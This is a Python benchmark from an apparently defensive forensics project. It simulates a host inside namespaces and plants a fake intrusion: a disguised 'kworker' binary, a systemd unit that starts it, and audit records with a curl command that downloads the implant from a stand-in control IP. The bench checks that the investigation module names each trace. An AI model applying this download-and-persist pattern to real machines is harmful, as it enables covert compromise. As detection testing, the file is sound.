# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""An investigation on a busy host against reading the same files and throwing them away.

300 processes, 2,000 units and files, and 100,000 audit records, in namespaces of their own. In them an intruder signed
in, brought a program and let a unit start it; each run names that. Ours runs as it does on a target (the file that
ansible-core sends, in a fresh process of the system's Python). The peer is the same Python, which opens every file,
directory and link that ours opened, as strace saw it once, and reads them. peer_s is the floor, so that ratio says what
understanding costs; it is to be 4 at most, and ours_s 5 at most. cpu_s is our processor time, which a busy machine does
not change. peak_mb, the largest proportional set size of our process, is to be 60 at most.
"""

from __future__ import annotations

import contextlib
import json
import os
import pathlib
import re
import resource
import statistics
import subprocess
import sys
import tempfile
import time
import typing as t

from tests.bench import _audit_log
from tests.bench import _measure as measure
from tests.support import commands, paths
from tests.support.audit_log import Log, Who

PROCESSES = 300
FILES = 2_000
RECORDS = 100_000
ROUNDS = 5
_MODULE = "bulwark.servers.investigation_info"
_IMPLANT = "/opt/app/.cache/kworker"
_CONTROL, _INTRUDER = "203.0.113.9", "198.51.100.7"
# Where others write on the machine that the bench runs on.
_COVERED = ("/tmp", "/var/tmp", "/dev/shm", "/opt", "/srv", "/etc/systemd/system", "/var/log", "/home", "/root")
_UNIT = """[Unit]
Description=Service {number}

[Service]
ExecStart=/usr/bin/sleep {number}

[Install]
WantedBy=multi-user.target
"""
_PEER = r"""
import json, os, stat, sys
for kind, path in json.load(open(sys.argv[1])):
    try:
        if kind == "link":
            os.readlink(path)
        elif kind == "directory":
            os.listdir(path)
        else:
            with open(path, "rb", buffering=0) as stream:
                while stream.read(1 << 20):
                    pass
    except OSError:
        pass
"""
_OPENED = re.compile(r"(?:open|openat|openat2)\(.*?(O_[A-Z_|]+).*?\) += \d+<(/.*)>$")
_LINK = re.compile(r'readlink(?:at)?\((?:\d+<(.*?)>, |AT_FDCWD<.*?>, )?"(.*?)", ')


def run() -> dict[str, t.Any]:
    """Return the figures; raises RuntimeError when what is needed is missing, or what was planted is not named."""
    needed = [name for name in ("strace", "unshare") if commands.find(name) is None]
    if needed or os.geteuid() != 0:
        raise RuntimeError("this bench needs root, strace and unshare: apt-get install strace util-linux")
    measure.module_loader()
    with tempfile.TemporaryDirectory(prefix="bulwark-bench-", dir="/usr/local/lib") as name:
        directory = pathlib.Path(name)
        arguments = {"path": _IMPLANT, "priority": "normal", "hours": 1_000_000, "time_budget": 60}
        ours = measure.payload(directory / "ours.py", _MODULE, arguments)
        (directory / "peer.py").write_text(_PEER)
        settings = {"ours": ours, "directory": name, "processes": PROCESSES, "files": FILES, "records": RECORDS}
        settings["rounds"] = ROUNDS
        inside = "from tests.bench import investigation; investigation.inside()"
        unshare = ["unshare", "--mount", "--pid", "--fork", "--kill-child", "--mount-proc", "--net"]
        done = subprocess.run(
            [*unshare, sys.executable, "-c", inside, json.dumps(settings)],
            cwd=paths.ROOT,
            check=False,
            capture_output=True,
            text=True,
        )
        if done.returncode:
            raise RuntimeError(done.stderr[-4_000:])
        figures: dict[str, t.Any] = json.loads(done.stdout.splitlines()[-1])
        return {**figures, "python": measure.output([measure.python(), "-V"]).strip()}


def inside() -> None:
    """Measure in the namespaces, and print the figures. The argument has the settings as JSON."""
    settings = json.loads(sys.argv[1])
    directory = pathlib.Path(settings["directory"])
    for path in _COVERED:
        pathlib.Path(path).mkdir(parents=True, exist_ok=True)
        subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=0755", "tmpfs", path], check=True)
    with contextlib.ExitStack() as stack:
        planted = _planted(settings, stack)
        ours: list[str] = settings["ours"]
        named = _named(json.loads(measure.output(ours)), planted)
        opened = _opened(ours, directory)
        listed = directory / "opened.json"
        listed.write_text(json.dumps(opened))
        peer = [measure.python(), str(directory / "peer.py"), str(listed)]
        seconds: dict[str, list[float]] = {"ours": [], "peer": []}
        used: list[float] = []
        for _round in range(settings["rounds"]):
            for side, command in (("peer", peer), ("ours", ours)):
                began, before = time.perf_counter(), _children()
                measure.output(command)
                seconds[side].append(time.perf_counter() - began)
                if side == "ours":
                    used.append(_children() - before)
        pairs = zip(seconds["ours"], seconds["peer"], strict=True)
        figures = {
            "ours_s": round(statistics.median(seconds["ours"]), 3),
            "peer_s": round(statistics.median(seconds["peer"]), 3),
            "ratio": round(statistics.median(one / other for one, other in pairs), 3),
            "cpu_s": round(statistics.median(used), 3),
            **measure.peak(ours),
            **named,
            "opened": len(opened),
        }
        sys.stdout.write(json.dumps(figures) + "\n")


def _children() -> float:
    """Return the processor time of children that ended."""
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    return used.ru_utime + used.ru_stime


def _planted(settings: t.Mapping[str, t.Any], stack: contextlib.ExitStack) -> set[str]:
    """Make the host, and the intruder's traces on it. Return the ids of what is to be named."""
    for number in range(settings["files"] // 2):
        (pathlib.Path("/etc/systemd/system") / f"service{number}.service").write_text(_UNIT.format(number=number))
        folder = pathlib.Path("/srv") / f"site{number % 50}"
        folder.mkdir(exist_ok=True)
        (folder / f"page{number}.html").write_text(f"<p>{number}</p>" * 20)
    implant = pathlib.Path(_IMPLANT)
    implant.parent.mkdir(parents=True)
    implant.write_bytes(pathlib.Path("/usr/bin/sleep").read_bytes())
    implant.chmod(0o755)
    unit = pathlib.Path("/etc/systemd/system/kworker.service")
    unit.write_text(_UNIT.format(number=9).replace("/usr/bin/sleep 9", _IMPLANT))
    programs = [["/usr/bin/sleep", str(10_000 + number)] for number in range(settings["processes"])]
    for command in [*programs, [_IMPLANT, "9999"]]:
        process = subprocess.Popen(command, start_new_session=True)
        stack.callback(process.kill)
    log = pathlib.Path("/var/log/audit/audit.log")
    log.parent.mkdir()
    _audit_log.write(log, settings["records"])
    pids = _intrude(log, str(unit))
    return {
        *(f"process:{pid}" for pid in (*pids, process.pid)),
        *(f"file:{path}" for path in (_IMPLANT, unit)),
        *(f"address:{_CONTROL}", f"address:{_INTRUDER}", "session:77", f"startup:{unit}"),
    }


def _intrude(file: pathlib.Path, unit: str) -> list[int]:
    """Append the records of a sign-in that brought the program and its unit; return the processes of it."""
    log = Log(time.time() - 900)
    session: t.Mapping[str, int] = {"ses": 77, "auid": 1001, "uid": 0}
    shell = Who(3_000_001, 3_000_000, "/usr/bin/bash", **session)
    fetch = Who(3_000_002, shell.pid, "/usr/bin/curl", **session)
    edit = Who(3_000_003, shell.pid, "/usr/bin/tee", **session)
    log.sign_in(3_000_000, 77, 1001, _INTRUDER)
    log.execute(shell, "-bash")
    log.execute(fetch, "curl", "-so", _IMPLANT, f"http://{_CONTROL}/k")
    log.connect(fetch, _CONTROL, 80)
    log.write(fetch, _IMPLANT)
    log.execute(edit, "tee", unit)
    log.write(edit, unit)
    with file.open("a") as stream:
        stream.write(log.text())
    return [shell.pid, fetch.pid, edit.pid]


def _named(result: t.Mapping[str, t.Any], planted: t.AbstractSet[str]) -> dict[str, t.Any]:
    """Return how many of what is named was planted; RuntimeError if something of that is missing."""
    named = {node["id"].partition("@")[0] for node in result["investigation"]["nodes"]}
    audit = next(entry for entry in result["coverage"] if entry["scope"] == "audit_records")
    if planted - named or audit["status"] != "checked":
        raise RuntimeError(f"{sorted(planted - named)} is not named: {result['coverage']}")
    return {"planted": len(planted), "named": len(named), "audit_events": audit["examined"]}


def _opened(command: t.Sequence[str], directory: pathlib.Path) -> list[tuple[str, str]]:
    """Return the files, directories and links that a command reads, as often as it does."""
    trace = directory / "trace"
    calls = "trace=open,openat,openat2,readlink,readlinkat"
    subprocess.run(
        ["strace", "-f", "-y", "-s", "4096", "-e", calls, "-o", str(trace), *command], check=True, capture_output=True
    )
    opened: list[tuple[str, str]] = []
    for line in trace.read_text(errors="surrogateescape").splitlines():
        link = _LINK.search(line)
        found = _OPENED.search(line)
        if link and " = -1" not in line:
            opened.append(("link", os.path.join(link.group(1) or "/", link.group(2))))
        elif found and "O_PATH" not in found.group(1):
            path = found.group(2)
            # The interpreter's own files and the code of ours are no part of the host.
            if "/python3" not in path and not path.startswith(str(directory)):
                opened.append(("directory" if "O_DIRECTORY" in found.group(1) else "file", path))
    return opened
